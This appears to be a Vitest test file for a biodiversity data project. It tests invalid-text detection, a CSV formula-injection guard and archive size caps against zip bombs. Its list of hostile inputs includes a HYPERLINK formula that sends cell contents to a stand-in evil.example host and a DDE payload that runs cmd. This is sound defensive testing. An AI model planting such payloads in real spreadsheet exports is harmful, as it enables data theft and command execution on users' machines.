import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import {
  csvDocument,
  csvLine,
  escapeInvalidText,
  escapeInvalidTextDeep,
  findInvalidText,
  guardFormula,
  hasInvalidText,
  invalidTextErrors,
  tsvLine,
  UTF8_BOM,
} from '@biomon/core';
import { ArchiveBudget, RowBudget } from '../../packages/occurrences/src/import/archive-limits';
import { ConfigError, DEFAULT_IMPORT_LIMITS, loadConfig } from '@biomon/config';

describe('text PostgreSQL cannot store (NUL, unpaired UTF-16 surrogates)', () => {
  it('recognises NUL and unpaired surrogates, and lets paired ones and ordinary text through', () => {
    for (const bad of ['\u0000', 'a\u0000b', '\ud800', 'x\ud800y', '\udc00', '\udfff', '\udc00\ud800', '\ud83d'])
      expect(hasInvalidText(bad), JSON.stringify(bad)).toBe(true);
    for (const ok of ['', 'Panthera tigris altaica', '东北虎', '\ud83d\udc2f', '🐯🐆', '\u0001\u001f', '\\u0000', '\ufffd'])
      expect(hasInvalidText(ok), JSON.stringify(ok)).toBe(false);
  });

  it('names every bad place of a value by its path, keys included, at most `max`', () => {
    const body = {
      records: [
        { ok: 'fine', remarks: 'scat\u0000' },
        { ['hab\ud800itat']: 'x', tags: ['a', '\udc00'] },
      ],
      note: 'ok',
      nested: { deeper: { v: '\u0000' } },
    };
    expect(findInvalidText(body)).toEqual([
      { path: 'records[0].remarks', inKey: false, character: 'U+0000' },
      { path: 'records[1].hab\\ud800itat', inKey: true, character: 'U+D800' },
      { path: 'records[1].tags[1]', inKey: false, character: 'U+DC00' },
      { path: 'nested.deeper.v', inKey: false, character: 'U+0000' },
    ]);
    expect(findInvalidText(body, 'body', 2).map((x) => x.path)).toEqual(['body.records[0].remarks', 'body.records[1].hab\\ud800itat']);
    expect(findInvalidText('\u0000')).toEqual([{ path: '', inKey: false, character: 'U+0000' }]);
    expect(invalidTextErrors('\u0000')).toEqual([
      { field: 'body', code: 'TEXT_INVALID_CHARACTER', message: expect.stringMatching(/NUL character \(U\+0000\)/) },
    ]);
    expect(invalidTextErrors({ a: '\udbff' }, 'query')[0]).toMatchObject({
      field: 'query.a',
      message: expect.stringMatching(/unpaired UTF-16 surrogate \(U\+DBFF\)/),
    });
    expect(findInvalidText({ n: 1, b: true, z: null, d: new Date(0) })).toEqual([]);
  });

  it('escapes them into storable, printable text, also deep (keys and values)', () => {
    expect(escapeInvalidText('a\u0000b\ud800c\udc00\ud83d\udc2f')).toBe('a\\u0000b\\ud800c\\udc00🐯');
    const deep = escapeInvalidTextDeep({ ['k\u0000']: ['\ud800', 2, null, { x: 'ok' }] });
    expect(deep).toEqual({ 'k\\u0000': ['\\ud800', 2, null, { x: 'ok' }] });
    expect(hasInvalidText(JSON.stringify(deep))).toBe(false);
  });
});

describe('the one CSV writer (csv-stringify) and its formula guard', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '－1+1', '=', '-'];

  it('prefixes every cell that would start a formula with an apostrophe, and the result round-trips through a CSV reader', () => {
    const doc = csvDocument([['value', 'note'], ...HOSTILE.map((v, i) => [v, `row ${i}, "quoted"\nsecond line`])]);
    expect(doc.startsWith(UTF8_BOM)).toBe(true);
    const rows = parse(doc.slice(1)) as string[][];
    expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((v) => `'${v}`));
    expect(rows.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((_, i) => `row ${i}, "quoted"\nsecond line`));
  });

  it('keeps numbers as numbers (JSON numbers and numeric strings such as PostgreSQL numeric), and ordinary text as it is', () => {
    const line = csvLine([
      -5,
      '-5',
      '-0.25',
      '+86',
      '1e-3',
      -1.5e-7,
      0,
      'Panthera tigris',
      '东北虎 = 老虎',
      'a-b',
      null,
      undefined,
      true,
      false,
      new Date(Date.UTC(2025, 0, 2)),
      { k: 'v' },
      Number.NaN,
      '',
    ]);
    expect(line).toBe('-5,-5,-0.25,+86,1e-3,-1.5e-7,0,Panthera tigris,东北虎 = 老虎,a-b,,,true,false,2025-01-02T00:00:00.000Z,"{""k"":""v""}",,\r\n');
    expect(guardFormula('-12.5')).toBe('-12.5');
    expect(guardFormula('-12.5x')).toBe("'-12.5x");
  });

  it('quotes commas, quotes and both line ends (csv-stringify leaves a bare \\n unquoted unless told)', () => {
    expect(csvLine(['a,b', 'say "hi"', 'one\ntwo', 'one\rtwo', 'plain'])).toBe('"a,b","say ""hi""","one\ntwo","one\rtwo",plain\r\n');
    expect(csvDocument([['x']], { bom: false })).toBe('x\r\n');
    expect(csvDocument([['t'], [], ['u']], { bom: false })).toBe('t\r\n\r\nu\r\n');
  });

  it('writes Darwin Core Archive lines tab-separated, enclosed only when needed, without the spreadsheet guard', () => {
    expect(tsvLine(['=1+1', 'a\tb', 'say "hi"', 'x\ny', 'a,b', null, 3])).toBe('=1+1\t"a\tb"\t"say ""hi"""\t"x\ny"\ta,b\t\t3\n');
  });
});

describe('archive and row caps', () => {
  const limits = { maxArchiveEntries: 3, maxArchiveBytes: 10 * 1024 * 1024, maxCompressionRatio: 100, maxRows: 2 };
  it('refuses the entry past the count, the bytes past the total and an entry above 1 MiB past the ratio, each with its code', () => {
    const count = new ArchiveBudget(limits);
    for (let i = 0; i < 3; i++) count.add({ name: `f${i}`, compressedSize: 10, uncompressedSize: 10 });
    expect(() => count.add({ name: 'f3', compressedSize: 10, uncompressedSize: 10 })).toThrow(expect.objectContaining({ code: 'ARCHIVE_TOO_MANY_ENTRIES' }));
    const bytes = new ArchiveBudget(limits);
    bytes.add({ name: 'a', compressedSize: 6 * 1024 * 1024, uncompressedSize: 6 * 1024 * 1024 });
    expect(() => bytes.add({ name: 'b', compressedSize: 5 * 1024 * 1024, uncompressedSize: 5 * 1024 * 1024 })).toThrow(
      expect.objectContaining({ code: 'ARCHIVE_TOO_LARGE' }),
    );
    const ratio = new ArchiveBudget(limits);
    ratio.add({ name: 'meta.xml', compressedSize: 1, uncompressedSize: 1024 * 1024 }); // 1 MiB exactly: not held to the ratio
    ratio.add({ name: 'ok.txt', compressedSize: 50_000, uncompressedSize: 4 * 1024 * 1024 }); // 84:1
    expect(() => ratio.add({ name: 'bomb.txt', compressedSize: 20_000, uncompressedSize: 4 * 1024 * 1024 })).toThrow(
      expect.objectContaining({ code: 'ARCHIVE_COMPRESSION_RATIO', message: expect.stringMatching(/bomb\.txt is compressed 210:1/) }),
    );
    const rows = new RowBudget(limits);
    rows.add('a.csv');
    rows.add('a.csv');
    expect(() => rows.add('b.csv')).toThrow(
      expect.objectContaining({ code: 'IMPORT_TOO_MANY_ROWS', message: expect.stringMatching(/more than 2 data rows \(reached in b\.csv\)/) }),
    );
  });

  it('reads the caps from the environment, with defaults, and refuses nonsense', () => {
    expect(loadConfig({}).importLimits).toEqual(DEFAULT_IMPORT_LIMITS);
    expect(DEFAULT_IMPORT_LIMITS).toEqual({ maxArchiveBytes: 4 * 1024 ** 3, maxArchiveEntries: 10_000, maxCompressionRatio: 200, maxRows: 10_000_000 });
    const c = loadConfig({
      BIOMON_ARCHIVE_MAX_BYTES: '1048576',
      BIOMON_ARCHIVE_MAX_ENTRIES: '50',
      BIOMON_ARCHIVE_MAX_RATIO: '30',
      BIOMON_IMPORT_MAX_ROWS: '1000',
    });
    expect(c.importLimits).toEqual({ maxArchiveBytes: 1048576, maxArchiveEntries: 50, maxCompressionRatio: 30, maxRows: 1000 });
    expect(() => loadConfig({ BIOMON_ARCHIVE_MAX_RATIO: '1', BIOMON_IMPORT_MAX_ROWS: 'many' })).toThrow(ConfigError);
    try {
      loadConfig({ BIOMON_ARCHIVE_MAX_RATIO: '1', BIOMON_IMPORT_MAX_ROWS: 'many' });
    } catch (e) {
      expect((e as Error).message).toMatch(/BIOMON_ARCHIVE_MAX_RATIO must be between 2/);
      expect((e as Error).message).toMatch(/BIOMON_IMPORT_MAX_ROWS must be an integer/);
    }
  });
});
